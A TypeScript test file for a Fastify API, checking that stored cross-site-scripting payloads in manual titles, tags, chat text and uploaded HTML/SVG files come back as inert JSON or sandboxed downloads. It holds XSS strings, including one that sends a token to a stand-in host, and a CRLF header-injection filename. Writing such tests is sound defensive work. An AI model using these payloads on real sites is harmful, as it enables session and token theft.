import type { FastifyInstance } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { multipart } from '../../src/storage/test-support/upload-requests.js';
import { buildTestApp } from '../../src/test-support/test-server.js';
import { type TestUser, signUpUser } from '../../src/test-support/users.js';

// Stored XSS: markup saved as a manual title, tag name, file name, chat question or manual
// text comes back from the API as inert data (JSON or SSE, never HTML, byte for byte what
// was saved), and markup uploaded as a file is only ever a sandboxed, unsniffed download.
// Rendering it as text is the web app's part (e2e/chat.test.ts covers chat answers).

const PAYLOADS = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)//',
  '</script><script>fetch("//evil.example/"+localStorage.token)</script>',
];
const rest = (path: string) => `/api/db/fieldassist/rest/v1/${path}`;

let app: FastifyInstance;
let technician: TestUser;

beforeAll(async () => {
  ({ app } = await buildTestApp({ PUBLIC_URL: 'https://files.fieldassist.test' }));
  await signUpUser(app); // first account: admin
  technician = await signUpUser(app, { role: 'technician' });
});

function expectJson(res: { headers: Record<string, unknown> }) {
  expect(res.headers['content-type']).toMatch(/^application\/json/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
}

async function upload(fileName: string, bytes: Buffer, contentType = 'application/octet-stream') {
  const { payload, contentType: type } = multipart([
    { name: 'path', value: `manuals/${Date.now()}_${fileName.replace(/[^\w.]/g, '_')}` },
    { name: 'file', fileName, contentType, bytes },
  ]);
  const res = await app.inject({
    method: 'POST',
    url: '/api/storage/fieldassist/upload',
    headers: { ...technician.headers, 'content-type': type },
    payload,
  });
  expect(res.statusCode, res.body).toBe(200);
  return new URL(res.json<{ publicUrl: string }>().publicUrl).pathname;
}

describe.each(PAYLOADS.map((p) => [p] as const))('%s', (payload) => {
  it('as a manual title and file name, comes back as the same JSON string', async () => {
    const created = await app.inject({
      method: 'POST',
      url: rest('manuals'),
      headers: technician.headers,
      payload: { title: payload, description: payload, file_url: '/files/none.pdf', file_name: `${payload}.pdf` },
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json()[0].id;
    const res = await app.inject({ method: 'GET', url: rest(`manuals?id=eq.${id}`), headers: technician.headers });
    expectJson(res);
    expect(res.json()[0]).toMatchObject({ title: payload, description: payload, file_name: `${payload}.pdf` });
  });

  it('as a tag name, comes back as the same JSON string', async () => {
    const created = await app.inject({
      method: 'POST',
      url: rest('tags'),
      headers: technician.headers,
      payload: { name: payload },
    });
    const res = await app.inject({
      method: 'GET',
      url: rest(`tags?id=eq.${created.json()[0].id}`),
      headers: technician.headers,
    });
    expectJson(res);
    expect(res.json()[0].name).toBe(payload);
  });

  it('as chat text and quoted manual text, is JSON inside an event stream and in the saved history', async () => {
    await app.inject({
      method: 'POST',
      url: rest('jobs'),
      headers: technician.headers,
      payload: { user_id: technician.id, title: payload, description: payload },
    });
    const res = await app.inject({
      method: 'POST',
      url: '/api/app/fieldassist/chat',
      headers: technician.headers,
      payload: { question: `${payload} pump` },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/event-stream; charset=utf-8');
    // Every line is an SSE data line holding JSON (or [DONE]): nothing a browser would parse as markup.
    const lines = res.body.split('\n').filter(Boolean);
    for (const line of lines) expect(line).toMatch(/^data: (\[DONE\]|\{.*\})$/);
    const id = lines
      .map((l) => l.slice(6))
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l))
      .find((part) => part.type === 'data-message')?.data.id;
    const saved = await app.inject({
      method: 'GET',
      url: rest(`chat_messages?id=eq.${id}`),
      headers: technician.headers,
    });
    expectJson(saved);
    expect(JSON.parse(saved.json()[0].message)).toMatchObject({ content: `${payload} pump` });
  });
});

describe('uploaded markup', () => {
  it.each([
    [
      'HTML under a hostile name',
      '<img src=x onerror=alert(1)>".html',
      '<!doctype html><script>alert(1)</script>',
      'text/html',
      /^text\/html/,
      'attachment',
    ],
    [
      'SVG with script',
      'drawing.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
      'image/svg+xml',
      /^image\/svg\+xml/,
      'attachment',
    ],
    // The bytes decide, not the claim: markup named .pdf is plain text, which no browser runs.
    [
      'HTML claiming to be a PDF',
      'manual.pdf',
      '<html><body onload=alert(1)>',
      'application/pdf',
      /^text\/plain/,
      'inline',
    ],
  ])('%s is sandboxed and never sniffed', async (_kind, fileName, body, claimed, servedType, disposition) => {
    const path = await upload(fileName, Buffer.from(body), claimed);
    for (const [url, kind] of [
      [path, disposition],
      [`${path}?download=1&filename=${encodeURIComponent('<b>"x"</b>.html')}`, 'attachment'],
    ]) {
      const res = await app.inject({ method: 'GET', url });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(servedType);
      expect(res.headers['content-disposition']).toMatch(
        new RegExp(`^${kind}; filename="[^"]*"; filename\\*=UTF-8''[^"\\s]*$`),
      );
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
    }
  });

  it('a hostile download name cannot add header parameters or lines', async () => {
    const path = await upload('notes.txt', Buffer.from('torque 12 Nm'), 'text/plain');
    const res = await app.inject({
      method: 'GET',
      url: `${path}?download=1&filename=${encodeURIComponent('a"; filename=evil.html\r\nSet-Cookie: x=1')}`,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['set-cookie']).toBeUndefined();
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="a; filename=evil.htmlSet-Cookie: x=1"; filename\*=UTF-8''/,
    );
  });
});
